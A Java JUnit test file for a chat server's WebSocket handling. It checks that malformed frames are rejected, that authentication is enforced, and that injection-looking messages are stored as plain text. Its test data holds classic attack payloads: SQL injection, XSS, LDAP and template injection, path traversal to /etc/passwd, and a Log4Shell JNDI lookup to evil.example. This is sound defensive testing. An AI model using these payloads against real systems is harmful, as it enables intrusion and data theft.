package chat.conclave.edge;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import chat.conclave.Person;
import chat.conclave.TestServer;
import chat.conclave.TestSocket;
import io.vertx.core.json.JsonObject;
import java.util.List;
import java.util.UUID;
import org.jspecify.annotations.NullUnmarked;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What clients say on a socket that makes no sense, and what they hear. */
@NullUnmarked
class SpeechTest {
  private static final TestServer SERVER = TestServer.shared();
  private static final Person ANN = SERVER.newcomer("Ann");
  private static final Person BOB = SERVER.newcomer("Bob");
  private static final String ROOM = ANN.room("Study", "open");

  private static JsonObject error(TestSocket socket, String text) {
    var next = socket.next(frame -> "error".equals(frame.getString("type")));
    socket.sendText(text);
    JsonObject error = TestServer.await(next);
    assertFalse(error.getString("message").contains("Exception"), error.encode());
    return error;
  }

  private static void stillWorks(TestSocket socket) {
    assertEquals(
        "ok",
        socket.ask(new JsonObject().put("type", "leave").put("room", ROOM)).getString("type"));
  }

  private static JsonObject frame(String type) {
    return new JsonObject().put("type", type).put("room", ROOM);
  }

  static List<String> notJson() {
    return List.of(
        "",
        "hello",
        "[]",
        "[{\"type\":\"leave\"}]",
        "7",
        "null",
        "\"leave\"",
        "{\"type\":\"leave\"",
        "{\"type\":\"leave\"}{}",
        "{\"type\":\"leave\",\"type\":\"say\"}",
        "{\"a\":".repeat(1_001) + "1" + "}".repeat(1_001),
        "[".repeat(60_000),
        "{\"type\":\"leave\",\"id\":" + "9".repeat(60_000) + "}",
        "{\"id\":NaN}",
        "{\"id\":Infinity}",
        "\uFEFF{\"type\":\"leave\"}",
        "{\"type\":\"say\",\"text\":\"\\ud800\"}",
        "{\"type\":\"say\",\"text\":\"a\\u0000b\"}",
        "{\"type\":\"a\nb\"}",
        "{'type':'leave'}",
        "{\"" + "n".repeat(300) + "\":1}");
  }

  @ParameterizedTest
  @MethodSource("notJson")
  void whatIsNotOneObjectIsInvalidAndTheSocketStaysOpen(String text) {
    TestSocket socket = ANN.hello();
    assertEquals("invalid", error(socket, text).getString("code"));
    stillWorks(socket);
    socket.close();
  }

  @Test
  void severalFramesWithoutSenseWithinAMinuteCloseTheSocket() {
    TestSocket socket = ANN.hello();
    for (int i = 0; i < 3; i++) {
      error(socket, "hello");
    }
    socket.sendText("hello");
    assertEquals(4500, socket.closeCode());
    assertEquals("garbled", socket.find(f -> "bye".equals(f.getString("type"))).getString("code"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{}",
        "{\"type\":\"nonsense\"}",
        "{\"type\":\"HELLO\"}",
        "{\"type\":7}",
        "{\"type\":null}",
        "{\"type\":[]}",
        "{\"type\":\"enter\"}",
        "{\"type\":\"enter\",\"room\":0}",
        "{\"type\":\"enter\",\"room\":-1}",
        "{\"type\":\"enter\",\"room\":9007199254740992}",
        "{\"type\":\"enter\",\"room\":9223372036854775808}",
        "{\"type\":\"enter\",\"room\":\"1-1-1-1-1\"}",
        "{\"type\":\"enter\",\"room\":\"ROOM\",\"after\":-1}",
        "{\"type\":\"enter\",\"room\":\"ROOM\",\"after\":1.5}",
        "{\"type\":\"enter\",\"room\":\"ROOM\",\"after\":\"1\"}",
        "{\"type\":\"enter\",\"room\":\"ROOM\",\"after\":9007199254740992}",
        "{\"type\":\"enter\",\"room\":\"ROOM\",\"after\":9223372036854775808}",
        "{\"type\":\"enter\",\"room\":\"ROOM\",\"epoch\":7}",
        "{\"type\":\"say\",\"room\":\"ROOM\",\"text\":\"no nonce\"}",
        "{\"type\":\"say\",\"room\":\"ROOM\",\"nonce\":\"\",\"text\":\"x\"}",
        "{\"type\":\"say\",\"room\":\"ROOM\",\"nonce\":\"n\"}",
        "{\"type\":\"say\",\"room\":\"ROOM\",\"nonce\":\"n\",\"text\":{}}",
        "{\"type\":\"say\",\"room\":\"ROOM\",\"nonce\":7,\"text\":\"x\"}",
        "{\"type\":\"say\",\"room\":\"ROOM\",\"nonce\":\"\\u0000\",\"text\":\"x\"}",
        "{\"type\":\"say\",\"room\":\"ROOM\",\"nonce\":\"\\ud800\",\"text\":\"x\"}",
        "{\"type\":\"summon\",\"room\":\"ROOM\",\"provider\":\"a\\u0000\"}",
        "{\"type\":\"summon\",\"room\":\"ROOM\",\"model\":\"a\\udc00\"}",
        "{\"type\":\"say\",\"room\":\"ROOM\",\"nonce\":\"n\",\"text\":\"x\",\"replyTo\":\"y\"}",
        "{\"type\":\"summon\",\"room\":\"ROOM\",\"provider\":{}}",
        "{\"type\":\"dismiss\",\"seat\":\"ROOM'; drop table x\"}",
        "{\"type\":\"stop\",\"message\":true}",
        "{\"type\":\"leave\",\"room\":\"ROOM\",\"id\":{}}",
        "{\"type\":\"leave\",\"room\":\"ROOM\",\"id\":1.5}",
        "{\"type\":\"leave\",\"room\":\"ROOM\",\"id\":9223372036854775808}"
      })
  void aFrameThatDoesNotFitIsInvalidAndTheSocketStaysOpen(String text) {
    TestSocket socket = ANN.hello();
    assertEquals("invalid", error(socket, text.replace("ROOM", ROOM)).getString("code"));
    stillWorks(socket);
    socket.close();
  }

  @Test
  void unknownFieldsAreIgnored() {
    TestSocket socket = ANN.hello();
    assertEquals(
        "ok",
        socket
            .ask(frame("leave").put("__proto__", new JsonObject()).put("constructor", "x"))
            .getString("type"));
    socket.close();
  }

  @Test
  void withoutHelloNothingIsDone() {
    TestSocket socket = ANN.socket();
    UUID some = UUID.randomUUID();
    for (JsonObject frame :
        List.of(
            frame("enter"),
            frame("leave"),
            frame("say").put("nonce", "n").put("text", "x"),
            frame("typing"),
            frame("summon").put("provider", "practice"),
            new JsonObject().put("type", "dismiss").put("seat", some.toString()),
            new JsonObject().put("type", "stop").put("message", some.toString()))) {
      assertEquals("unauthenticated", socket.ask(frame).getString("code"), frame.encode());
    }
    socket.close();
  }

  @Test
  void aTokenThatIsNoneEndsTheSocket() {
    for (String token : List.of("", "x", "a.b.c", ANN.token().substring(1), ANN.token() + "x")) {
      TestSocket socket = ANN.socket();
      JsonObject hello = new JsonObject().put("type", "hello").put("token", token).put("id", 1);
      assertEquals("unauthenticated", error(socket, hello.encode()).getString("code"));
      assertEquals(4401, socket.closeCode());
    }
  }

  @Test
  void aHelloThatIsTooLongIsRefused() {
    TestSocket socket = ANN.socket();
    JsonObject hello = new JsonObject().put("type", "hello").put("token", "x".repeat(4_097));
    assertEquals("too-large", error(socket, hello.encode()).getString("code"));
    socket.sendText(hello.put("token", "x".repeat(9_000)).encode());
    assertEquals(1009, socket.closeCode());
  }

  @Test
  void aSocketBelongsToWhoSaidHelloFirst() {
    TestSocket socket = ANN.hello();
    JsonObject other = new JsonObject().put("type", "hello").put("token", BOB.token());
    assertEquals("invalid", socket.ask(other).getString("code"));
    JsonObject again = socket.ask(other.put("token", ANN.token()));
    assertEquals(ANN.id(), again.getJsonObject("user").getString("id"));
    socket.close();
  }

  @Test
  void aPrivateRoomOfOthersIsNotToldFromNone() {
    String secret = BOB.room("Secret", "private");
    String none = UUID.randomUUID().toString();
    TestSocket socket = ANN.hello();
    for (String type : List.of("enter", "say", "summon")) {
      JsonObject frame = frame(type).put("nonce", "n").put("text", "x").put("provider", "practice");
      JsonObject there = socket.ask(frame.put("room", secret));
      JsonObject nowhere = socket.ask(frame.put("room", none));
      there.remove("re");
      nowhere.remove("re");
      assertEquals("not-found", there.getString("code"), type);
      assertEquals(nowhere, there, type);
    }
    socket.ask(frame("typing").put("room", secret).put("id", 1));
    socket.close();
  }

  @Test
  void whoHasSeenTooMuchOrAnotherEpochBeginsAnew() {
    TestSocket socket = ANN.hello();
    JsonObject first = socket.enter(ROOM);
    long head = first.getLong("rev");
    JsonObject enter = frame("enter").put("epoch", first.getString("epoch"));
    assertFalse(socket.ask(enter.copy().put("after", head)).getBoolean("reset"));
    assertTrue(socket.ask(enter.copy().put("after", head + 1_000)).getBoolean("reset"));
    assertTrue(socket.ask(enter.copy().put("after", (1L << 53) - 1)).getBoolean("reset"));
    assertTrue(
        socket
            .ask(frame("enter").put("epoch", UUID.randomUUID().toString()).put("after", head))
            .getBoolean("reset"));
    assertTrue(socket.ask(frame("enter").put("after", head)).getBoolean("reset"));
    socket.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", " ", "\n\t ", "\u200b\u200d\ufeff", "\u00a0\u2003\u3000", "\u0007\u001b"})
  void aMessageThatNobodyCanSeeIsRefused(String text) {
    TestSocket socket = ANN.hello();
    socket.enter(ROOM);
    assertEquals("invalid", socket.say(ROOM, "n" + UUID.randomUUID(), text).getString("code"));
    socket.close();
  }

  @Test
  void aMessageHasAtMost16KiCharacters() {
    TestSocket socket = BOB.hello();
    socket.enter(ROOM);
    assertEquals("too-large", socket.say(ROOM, "long", "x".repeat(16_385)).getString("code"));
    assertEquals("ok", socket.say(ROOM, "long", "x".repeat(16_384)).getString("type"));
    socket.close();
  }

  @Test
  void controlCharactersAndPilesOfMarksAreTakenOut() {
    TestSocket socket = BOB.hello();
    socket.enter(ROOM);
    JsonObject said = socket.say(ROOM, "c0", " a\u0007b\u001b[31m\tc\nd\u0085 ");
    assertEquals("ab[31m\tc\nd", text(socket, said));
    said = socket.say(ROOM, "marks", "a" + "\u0301".repeat(10_000));
    assertEquals("a" + "\u0301".repeat(32), text(socket, said));
    socket.sendText(
        frame("say").put("nonce", "m").put("text", "a" + "\u0301".repeat(500_000)).encode());
    assertTrue(List.of((short) 1009, (short) 1006).contains(socket.closeCode()));
  }

  private static String text(TestSocket socket, JsonObject said) {
    return socket.message(said.getString("message"), "complete").getString("text");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "'; drop table messages; --",
        "{\"$gt\":\"\"}",
        "*)(uid=*))(|(uid=*",
        "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "%s%n%x \\u0041 \\x41"
      })
  void whatLooksLikeCodeIsText(String text) {
    TestSocket socket = BOB.hello();
    socket.enter(ROOM);
    JsonObject said = socket.say(ROOM, "n" + UUID.randomUUID(), text);
    assertEquals(text, text(socket, said));
    assertEquals(
        text,
        BOB.get("/api/rooms/" + ROOM + "/messages?limit=1")
            .array()
            .getJsonObject(0)
            .getString("text"));
    socket.close();
  }
}
